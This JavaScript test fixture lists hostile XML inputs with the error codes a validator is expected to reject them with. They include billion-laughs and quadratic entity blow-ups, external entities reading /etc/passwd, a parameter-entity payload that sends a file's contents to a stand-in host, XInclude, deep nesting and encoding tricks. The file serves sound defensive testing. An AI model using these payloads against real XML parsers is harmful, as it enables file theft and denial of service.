/*
 * XML that somebody means no good with: what it is, the code that it is to be refused with, and the bytes. `sbk check` gets each as a file;
 * hostile.test.mjs asks for the codes, tests/bench/hostile.mjs for time and memory.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

import { samples } from './samples.mjs';

const good = readFileSync(join(samples, '102-BJSSC-20261122-000006.xml'), 'utf8');
const declaration = '<?xml version="1.0" encoding="UTF-8"?>\n';
const root = 'ProductionStatusReport';

const swap = (from, to) => {
	if (!good.includes(from))
		throw new Error(from);
	return good.replace(from, () => to);
};
const doctype = (subset, within = '') => swap(declaration, `${declaration}<!DOCTYPE ${root} ${subset}>\n`).replace('<MsgId>', `<MsgId>${within}`);
const coded = (name) => good.replace('UTF-8', name);
const utf16 = (text, big) => {
	const bytes = Buffer.from(text, 'utf16le');
	return big ? bytes.swap16() : bytes;
};
const within = (bytes) => {
	const [before, after] = good.split('BJ261122K7M4QX2PC');
	return Buffer.concat([Buffer.from(before), bytes, Buffer.from(after)]);
};
/* Ten of each of the one before. */
const laughs = ['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i'].map((name, i) =>
	`<!ENTITY ${name} "${`&${'abcdefgh'[i]};`.repeat(10)}">`).join('');
const mega = 1_000_000;

export const hostile = [
	['a DOCTYPE and nothing else', 'F06', () => doctype('')],
	['a DOCTYPE after a comment of 100 KB', 'F06', () => swap(declaration, `${declaration}<!--${'-x'.repeat(50_000)}--><!DOCTYPE a>`)],
	['a DTD of 9 MB', 'F06', () => doctype(`[${'<!ELEMENT a (#PCDATA)>'.repeat(400_000)}]`)],
	['a DTD that another host has', 'F06', () => doctype('SYSTEM "http://127.0.0.1:9/x.dtd"')],
	['billion laughs', 'F06', () => doctype(`[<!ENTITY a "ha">${laughs}]`, '&i;')],
	['quadratic blow-up: one entity of 1 MB, 1,000 times', 'F06', () => doctype(`[<!ENTITY a "${'a'.repeat(mega)}">]`, '&a;'.repeat(1000))],
	['an entity that is itself', 'F06', () => doctype('[<!ENTITY a "&b;"><!ENTITY b "&a;">]', '&a;')],
	['an entity out of a file', 'F06', () => doctype('[<!ENTITY a SYSTEM "file:///etc/passwd">]', '&a;')],
	['an entity out of an endless file', 'F06', () => doctype('[<!ENTITY a SYSTEM "file:///dev/zero">]', '&a;')],
	['an entity from another host', 'F06', () => doctype('[<!ENTITY a SYSTEM "http://127.0.0.1:9/a">]', '&a;')],
	['a parameter entity out of a file', 'F06', () => doctype('[<!ENTITY % a SYSTEM "file:///etc/passwd"> %a;]')],
	['a parameter entity that sends a file away', 'F06', () => doctype('[<!ENTITY % f SYSTEM "file:///etc/passwd"><!ENTITY % a '
		+ '"<!ENTITY &#37; b SYSTEM \'http://127.0.0.1:9/?%f;\'>"> %a; %b;]')],
	['an entity that nobody has declared', 'F06', () => swap('<MsgId>', '<MsgId>&nbsp;')],
	['XInclude of a file', 'F05', () => swap('<MsgId>', '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/><MsgId>')],
	['a schema of its own, from another host', 'F05', () => swap('xmlns=', 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
		+ 'xsi:schemaLocation="urn:x http://127.0.0.1:9/x.xsd" a="1" xmlns=')],
	['a style sheet, which is nobody’s business', '', () => swap(declaration, `${declaration}<?xml-stylesheet href="file:///etc/passwd"?>`)],
	['depth 300,000', 'F05', () => `${declaration}${'<a>'.repeat(300_000)}`],
	['depth 300,000, within a record', 'F05', () => swap('<Attempt>', `${'<a>'.repeat(300_000)}<Attempt>`)],
	['an attribute of 12 MB', 'F05', () => swap('<Header>', `<Header a="${'x'.repeat(12 * mega)}">`)],
	['a text of 12 MB', 'F05', () => swap('<MsgId>', `<MsgId>${'x'.repeat(12 * mega)}`)],
	['a name of 12 MB', 'F05', () => swap('<Header>', `<Header><${'n'.repeat(12 * mega)}/>`)],
	['a comment of 12 MB', 'F05', () => swap('<Header>', `<Header><!--${'x'.repeat(12 * mega)}-->`)],
	['100,000 attributes', 'F05', () => swap('<Header>', `<Header ${Array.from({ length: 100_000 }, (_, i) => `a${i}="1"`).join(' ')}>`)],
	['an attribute twice', 'F04', () => swap('<Header>', '<Header a="1" a="2">')],
	['100,000 namespaces', 'F05', () => swap('<Header>', `<Header ${Array.from({ length: 100_000 }, (_, i) => `xmlns:n${i}="u"`).join(' ')}><n1:a/>`)],
	['UTF-16, little-endian', 'F06', () => utf16(`\ufeff${coded('UTF-16')}`)],
	['UTF-16, big-endian', 'F06', () => utf16(`\ufeff${coded('UTF-16')}`, true)],
	['UTF-16 without a mark', 'F06', () => utf16(coded('UTF-16LE'))],
	['UTF-16 by its declaration alone', 'F06', () => coded('UTF-16')],
	['UTF-7', 'F06', () => coded('UTF-7').replace('<Totals>', '+ADw-Totals+AD4-')],
	['EBCDIC', 'F06', () => Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93])],
	['GB 18030', 'F06', () => coded('GB18030')],
	['ISO 8859-1', 'F06', () => coded('ISO-8859-1')],
	['an encoding that there is not', 'F06', () => coded('x-none')],
	['a byte order mark', 'F06', () => `\ufeff${good}`],
	['overlong UTF-8', 'F06', () => within(Buffer.from([0xc0, 0xaf]))],
	['an invalid byte', 'F06', () => within(Buffer.from([0xff]))],
	['half a character', 'F06', () => within(Buffer.from([0xe7, 0x8e]))],
	['half of a surrogate pair', 'F06', () => within(Buffer.from([0xed, 0xa0, 0x80]))],
	['beyond Unicode', 'F06', () => within(Buffer.from([0xf4, 0x90, 0x80, 0x80]))],
	['a NUL', 'F06', () => within(Buffer.from([0]))],
	['a NUL by its number', 'F06', () => swap('K7M4QX2PC', '&#0;')],
	['a control character', 'F06', () => within(Buffer.from([0x1b]))],
	['XML 1.1', 'F06', () => swap('1.0', '1.1')],
	['XML 2.0', 'F06', () => swap('1.0', '2.0')],
	['no declaration', 'F06', () => swap(declaration, '')],
	['blanks before the declaration', 'F06', () => ` ${good}`],
	['nothing', 'F04', () => ''],
	['no XML', 'F06', () => '{"MsgId":"102-BJSSC-20261122-000006"}'],
	['two roots', 'F04', () => `${good}${good.slice(declaration.length)}`],
	['something after the root', 'F04', () => `${good}more`],
	['a DTD within a comment', 'F06', () => swap('<Header>', '<!-- <!DOCTYPE a> --><Header>')],
	['the message within another', 'F05', () => `${declaration}<Envelope>${good.slice(declaration.length)}</Envelope>`],
	['a message that wraps a message of another', 'F05', () => swap('</Header>', `</Header>${good.slice(declaration.length)}`)],
	['a signature within the XML', 'F05', () => swap('<Header>', '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo>'
		+ '<Reference URI="#a"/></SignedInfo></Signature><Header>')],
	['an Id that a signature could mean', 'F05', () => swap('<Header>', '<Header Id="a">')],
	['an xml:id', 'F05', () => swap('<Header>', '<Header xml:id="a">')],
	['the same xml:id twice', 'F05', () => swap('<Header>', '<Header xml:id="a">').replace('<Totals>', '<Totals xml:id="a">')],
	['two headers', 'F05', () => swap('</Header>', `</Header>${/<Header>.*<\/Header>/s.exec(good)[0]}`)],
	['a header after the records', 'F05', () => swap(`</${root}>`, `${/<Header>.*<\/Header>/s.exec(good)[0]}</${root}>`)],
	['an element of another namespace', 'F05', () => swap('<Totals>', '<Totals xmlns="urn:x">')],
	['no namespace', 'F05', () => swap(' xmlns="urn:bjssc:exchange:1"', '')],
	['xsi:nil in the place of a value', 'F05', () => swap('<Attempt>1</Attempt>', '<Attempt xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true"/>')],
	['xsi:type that makes it something else', 'F05', () => swap('<Attempt>1<', '<Attempt xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
		+ 'xmlns:x="http://www.w3.org/2001/XMLSchema" xsi:type="x:string">one<')],
	['a record too few', 'F08', () => swap('<NumberOfRecords>2', '<NumberOfRecords>3')],
	['2,147,483,647 records', 'F08', () => swap('<NumberOfRecords>2', '<NumberOfRecords>2147483647')],
	['−1 records', 'F05', () => swap('<NumberOfRecords>2', '<NumberOfRecords>-1')],
	['more records than a number holds', 'F05', () => swap('<NumberOfRecords>2', `<NumberOfRecords>${'9'.repeat(30)}`)],
	['totals that do not add up', 'F08', () => swap('<Number>1', '<Number>2')],
	['a RecordNo twice', 'F13', () => swap('<RecordNo>2', '<RecordNo>1')],
	['another control digest', 'F09', () => good.replace(/<ControlDigest>\w+/, `<ControlDigest>${'0'.repeat(64)}`)],
	['cut off in a tag', 'F04', () => good.slice(0, -5)],
];
